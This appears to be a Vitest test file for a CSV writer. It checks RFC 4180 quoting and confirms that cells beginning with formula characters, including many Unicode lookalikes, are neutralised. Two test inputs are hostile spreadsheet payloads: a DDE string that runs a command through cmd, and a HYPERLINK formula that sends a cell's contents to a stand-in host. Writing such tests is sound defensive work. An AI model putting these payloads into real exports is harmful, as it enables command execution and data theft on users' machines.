import { expect, test } from 'vitest'
import { csvLine } from '../../src/rules/csv'

test('a line ends as RFC 4180 says, each cell in quotes', () => {
  expect(csvLine(['a', '', 'b c'])).toBe('"a","","b c"\r\n')
})

test('quotes, separators and line breaks stay within their cell', () => {
  expect(csvLine(['say "hi"', 'a,b;c', 'one\ntwo'])).toBe('"say ""hi""","a,b;c","one\ntwo"\r\n')
})

test.each([
  ['an equals sign', '=1+1'],
  ['a plus', '+1'],
  ['a minus', '-1'],
  ['a minus of mathematicians', '−1'],
  ['an at sign', '@SUM(A1)'],
  ['a tab', '\t=1'],
  ['a tab before words', '\twords'],
  ['a carriage return', '\r=1'],
  ['a line break', '\n=1'],
  ['a space before it', '  =1'],
  ['a space that does not break', '\u00a0=1'],
  ['a wide space', '\u3000=1'],
  ['nothing that is seen', '\u200b\u2060=1'],
  ['a byte order mark', '\ufeff=1'],
  ['a control character', '\u0000=1'],
  ['a bidirectional mark', '\u202e=1'],
  ['a full-width equals sign', '＝1'],
  ['a full-width plus', '＋1'],
  ['a full-width minus', '－1'],
  ['a full-width at sign', '＠SUM'],
  ['a small plus', '﹢1'],
  ['a command', "=cmd|' /C calc'!A0"],
  ['a link', '=HYPERLINK("https://evil.test?"&A1)'],
])('a cell that begins with %s is no formula', (_, cell) => {
  expect(csvLine([cell])).toBe(`"'${cell.replaceAll('"', '""')}"\r\n`)
})

test.each(['jane@example.com', 'a=b', '1-2', '{"a":"=1"}', 'Ann +1', '–', '#1', "'=1"])(
  '%s is left as it is',
  (cell) => {
    expect(csvLine([cell])).toBe(`"${cell.replaceAll('"', '""')}"\r\n`)
  },
)
